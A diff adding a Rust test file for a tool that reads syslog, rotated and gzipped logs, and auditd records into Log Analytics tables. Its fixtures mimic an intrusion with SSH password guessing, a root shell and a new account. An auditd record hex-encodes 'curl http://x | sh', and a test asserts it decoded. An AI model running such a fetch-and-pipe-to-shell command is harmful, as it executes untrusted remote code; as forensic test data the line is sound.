@@ -1,0 +1,214 @@
+//! Files of syslog.
+
+use std::io::Write as _;
+
+use sources::local::{RawFile, from_files};
+
+use crate::data::{answer, log, report, rows};
+
+const AUTH: &str = "\
+Dec 31 23:59:58 web01 sshd[811]: Failed password for invalid user oracle from 203.0.113.9 port 4711 ssh2
+Jan  1 00:00:03 web01 sshd[812]: Failed password for root from 203.0.113.9 port 4712 ssh2
+Jan  1 00:00:09 web01 sshd[812]: message repeated 5 times: [ Failed password for root from 203.0.113.9 port 4712 ssh2]
+Jan  1 00:01:00 web01 sudo:    megan : TTY=pts/0 ; PWD=/home/megan ; USER=root ; COMMAND=/bin/bash
+Jan  1 00:02:00 web01 useradd[900]: new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash
+";
+
+#[test]
+fn an_auth_log_has_the_columns_of_log_analytics() {
+    let workspace = log("auth.log", AUTH, "2026-01-01T00:10:00Z", None);
+    assert_eq!(rows(&workspace), [("Syslog", 9)]);
+    let query = "Syslog | where ProcessName == 'sudo' | project tostring(TimeGenerated), Computer, HostName, Facility, SyslogMessage";
+    assert_eq!(
+        answer(&workspace, query),
+        [
+            "2026-01-01T00:01:00.0000000Z web01 web01     megan : TTY=pts/0 ; PWD=/home/megan ; USER=root ; COMMAND=/bin/bash"
+        ]
+    );
+    assert_eq!(
+        answer(&workspace, "Syslog | where ProcessID == 811 | project tostring(TimeGenerated)"),
+        ["2025-12-31T23:59:58.0000000Z"]
+    );
+    let assumed: Vec<String> = report(&workspace, "Syslog").assumed.iter().map(ToString::to_string).collect();
+    assert_eq!(assumed.len(), 2, "{assumed:?}");
+    assert!(
+        assumed[0].starts_with("auth.log: its times do not say their zone; UTC is assumed."),
+        "{assumed:?}"
+    );
+    assert_eq!(
+        assumed[1],
+        "auth.log: its times do not say their year; 2025 to 2026 is assumed by the date of its last change, 2026-01-01"
+    );
+    let file = workspace.files[0].to_string();
+    assert!(file.starts_with("auth.log: 9 rows of Syslog (as lines of syslog); "), "{file}");
+}
+
+#[test]
+fn a_message_that_was_repeated_counts_as_often_as_it_happened() {
+    let workspace = log("auth.log", AUTH, "2026-01-01T00:10:00Z", None);
+    let failed = "Syslog | where SyslogMessage startswith 'Failed password for root' | summarize count(), countif(isnotnull(RepeatNumber)), max(RepeatCount)";
+    assert_eq!(answer(&workspace, failed), ["6 5 5"]);
+    let file = workspace.files[0].to_string();
+    assert!(
+        file.contains("1 line says that a message was repeated and stands for 5 messages, each a row"),
+        "{file}"
+    );
+
+    let old = "Jan  1 00:00:01 a sshd[1]: Failed x\nJan  1 00:00:02 b su: y\nJan  1 00:00:03 a last message repeated 2 times\nJan  1 00:00:04 a last message repeated 1 times\n";
+    let workspace = log("messages", old, "2026-01-01T00:10:00Z", None);
+    let query = "Syslog | summarize count(), max(TimeGenerated) by Computer, ProcessName, ProcessID, SyslogMessage | project count_, Computer, ProcessName, ProcessID, SyslogMessage | sort by Computer asc";
+    assert_eq!(answer(&workspace, query), ["4 a sshd 1 Failed x", "1 b su null y"]);
+
+    // Nobody can fill the memory with one line; what it says is still there.
+    let many = "Jan  1 00:00:01 a sshd[1]: message repeated 4000000000 times: [ Failed x]\n";
+    let workspace = log("messages", many, "2026-01-01T00:10:00Z", None);
+    assert_eq!(
+        answer(&workspace, "Syslog | project RepeatCount, SyslogMessage"),
+        ["4000000000 message repeated 4000000000 times: [ Failed x]"]
+    );
+    assert!(
+        workspace.files[0].to_string().contains("stands for 4000000000, too many to be made rows"),
+        "{}",
+        workspace.files[0]
+    );
+}
+
+#[test]
+fn the_zone_is_the_hosts_if_the_analyst_says_it() {
+    let workspace = log("auth.log", AUTH, "2026-01-01T00:10:00Z", Some("America/New_York"));
+    assert_eq!(
+        answer(&workspace, "Syslog | summarize tostring(min(TimeGenerated))"),
+        ["2026-01-01T04:59:58.0000000Z"]
+    );
+    assert_eq!(report(&workspace, "Syslog").assumed.len(), 1, "the year only");
+    assert!(
+        workspace.files[0].to_string().contains("read as America/New_York, as the analyst said"),
+        "{}",
+        workspace.files[0]
+    );
+}
+
+#[test]
+fn lines_with_zone_and_year_assume_nothing() {
+    let text = "2026-01-05T08:00:00.123456+01:00 web01 sshd[7]: Accepted publickey for megan from 203.0.113.7 port 1 ssh2\n\
+        <86>1 2026-01-05T07:00:01Z web01 su 9 - - pam_unix(su:session): session opened for user root by megan(uid=1001)\n";
+    let workspace = log("secure", text, "", Some("Asia/Tokyo"));
+    assert_eq!(
+        answer(
+            &workspace,
+            "Syslog | project tostring(TimeGenerated), Facility, SeverityLevel, ProcessName, ProcessID"
+        ),
+        ["2026-01-05T07:00:00.1234560Z   sshd 7", "2026-01-05T07:00:01.0000000Z authpriv info su 9"]
+    );
+    assert!(report(&workspace, "Syslog").assumed.is_empty());
+}
+
+#[test]
+fn without_a_year_and_a_date_of_the_file_no_time_is_invented() {
+    let workspace = log("auth.log", AUTH, "", None);
+    let table = report(&workspace, "Syslog");
+    assert_eq!((table.rows, table.rows_without_time), (9, 9));
+    assert!(table.assumed[0].text.contains("nothing tells when the file was written"), "{:?}", table.assumed);
+    assert_eq!(answer(&workspace, "Syslog | take 1 | project TimeGenerated_string"), ["Dec 31 23:59:58"]);
+}
+
+#[test]
+fn rotated_files_and_any_name() {
+    let gzip = |text: &str, seconds: u32| {
+        let mut writer =
+            flate2::GzBuilder::new().mtime(seconds).write(Vec::new(), flate2::Compression::fast());
+        writer.write_all(text.as_bytes()).expect("in memory");
+        writer.finish().expect("in memory")
+    };
+    let line = |day: &str| {
+        format!("{day} 08:00:00 web01 sshd[7]: Accepted password for megan from 203.0.113.7 port 1 ssh2\n")
+    };
+    let file = |name: &str, bytes: Vec<u8>| RawFile {
+        name: name.to_owned(),
+        bytes,
+        modified: "2030-01-01T00:00:00Z".parse().ok(),
+    };
+    // 1767571200 is 2026-01-05.
+    let files = vec![
+        file("auth.log.2.gz", gzip(&line("Dec 20"), 1_767_571_200)),
+        file("auth.log.1", line("Dec 27").into_bytes()),
+        file("secure-20240105", line("Jan  3").into_bytes()),
+        file("notes.txt", line("Jan  4").into_bytes()),
+    ];
+    let workspace = from_files(files).expect("all are read");
+    assert_eq!(
+        answer(
+            &workspace,
+            "Syslog | sort by TimeGenerated asc | project substring(tostring(TimeGenerated), 0, 10)"
+        ),
+        ["2024-01-03", "2025-12-20", "2029-01-04", "2029-12-27"]
+    );
+}
+
+const AUDIT: &str = "\
+node=web01 type=SYSCALL msg=audit(1767600000.123:42): arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=901 auid=1001 uid=0 ses=3 comm=\"bash\" exe=\"/usr/bin/bash\" key=(null)
+node=web01 type=EXECVE msg=audit(1767600000.123:42): argc=3 a0=\"bash\" a1=\"-c\" a2=6375726C20687474703A2F2F78207C207368
+node=web01 type=USER_LOGIN msg=audit(1767600001.000:43): pid=7 uid=0 auid=1001 ses=3 msg='op=login acct=\"megan\" exe=\"/usr/sbin/sshd\" addr=203.0.113.9 res=failed'
+what is this
+";
+
+#[test]
+fn records_of_auditd() {
+    let workspace = log("audit.log.1", AUDIT, "", None);
+    assert_eq!(rows(&workspace), [("LinuxAuditLog", 3)]);
+    let query = "LinuxAuditLog | where EventType == 'SYSCALL_EXECVE' | project tostring(TimeGenerated), Computer, AuditID, exe, cmdline, pid, ppid, auid, ses";
+    assert_eq!(
+        answer(&workspace, query),
+        [
+            "2026-01-05T08:00:00.1230000Z web01 1767600000.123:42 /usr/bin/bash bash -c curl http://x | sh 901 900 1001 3"
+        ]
+    );
+    assert_eq!(
+        answer(&workspace, "LinuxAuditLog | where RecordType == 'USER_LOGIN' | project acct, addr, res"),
+        ["megan 203.0.113.9 failed"]
+    );
+    let said = workspace.files[0].to_string();
+    assert!(
+        said.contains(
+            "(as records of auditd); 1 line is no record of auditd and left out, the first is line 4"
+        ),
+        "{said}"
+    );
+    for at in 0..AUDIT.len() {
+        let mut bytes = AUDIT.as_bytes().to_vec();
+        bytes[at] ^= 0x95;
+        for bytes in [bytes, AUDIT.as_bytes()[..at].to_vec()] {
+            // A sentence or rows, never a panic.
+            let _ = from_files(vec![RawFile { name: "audit.log".to_owned(), bytes, modified: None }]);
+        }
+    }
+}
+
+#[test]
+fn what_is_odd_is_said_and_nothing_panics() {
+    let text = "\0\0\0Jan  1 00:00:01 a kernel: up\n\tcontinued\nwhat is this\nJan  1 00:00:02 a x: \u{1b}[31m<b>\n\nJan  1 00:00:03 a";
+    let workspace = log("kern.log", text, "2026-01-01T00:10:00Z", None);
+    assert_eq!(
+        answer(&workspace, "Syslog | project SyslogMessage"),
+        [
+            "up\\n\\tcontinued".replace("\\n", "\n").replace("\\t", "\t"),
+            "\u{1b}[31m<b>".to_owned(),
+            String::new()
+        ]
+    );
+    let said = workspace.files[0].to_string();
+    assert!(said.contains("1 line is none of syslog and left out, the first is line 3"), "{said}");
+    for at in 0..AUTH.len() {
+        let mut bytes = AUTH.as_bytes().to_vec();
+        bytes[at] ^= 0x95;
+        for bytes in [bytes, AUTH.as_bytes()[..at].to_vec()] {
+            let good = RawFile {
+                name: "Syslog.csv".to_owned(),
+                bytes: b"TimeGenerated,Computer\n,a\n".to_vec(),
+                modified: None,
+            };
+            let bad = RawFile { name: "auth.log".to_owned(), bytes, modified: None };
+            assert!(from_files(vec![good, bad]).expect("one is read").tables[0].rows > 0);
+        }
+    }
+}
